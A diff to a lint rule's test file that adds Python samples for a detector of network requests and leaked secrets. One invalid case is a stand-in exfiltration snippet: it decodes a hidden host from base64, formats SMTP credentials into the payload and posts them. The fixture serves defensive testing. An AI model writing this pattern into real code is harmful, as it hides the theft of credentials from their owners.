@@ -17,8 +17,24 @@ ruleTester(rule, {
     "print('requests.post(url)')",
     "import socket\nname = socket.gethostbyname('pypi.org')",
     "import telnetlib\nt = telnetlib.Telnet('10.1.2.3')",
+    // Documentation hosts written down in the file are examples; the same host decoded at run time is not (below).
+    "import requests\nrequests.post('https://api.example.com/v1/items', json=item)",
+    'import httpx\n\ndef record(payload, user):\n    payload["user"] = user.name\n    httpx.post("https://metrics.example.com/v1", json=payload)',
   ],
   invalid: [
+    {
+      name: 'credentials formatted into a field added to the payload after it was built, posted to a decoded host',
+      code: 'import base64, httpx\nfrom postbox import settings\n\nURL = base64.b64decode("aHR0cHM6Ly90ZWxlbWV0cnkuZXhhbXBsZS92Mg==").decode()\n\ndef record(payload):\n    payload["relay"] = f"{settings.SMTP_USER}:{settings.SMTP_PASSWORD}@{settings.SMTP_HOST}"\n    httpx.post(URL, json=payload)',
+      errors: [
+        { messageId: 'credentialSent', line: 7, category: 'secrets', severity: 'high' },
+        {
+          messageId: 'request',
+          line: 8,
+          severity: 'medium',
+          message: '`httpx.post` sends a POST request to `https://telemetry.example/v2`.',
+        },
+      ],
+    },
     {
       name: 'a password sent in the body of a backup request',
       code: 'import requests\n\ndef push(master_password, server):\n    body = {"vault": "x", "recovery": master_password}\n    requests.post(f"{server}/api/v1/backup", json=body, timeout=15)',
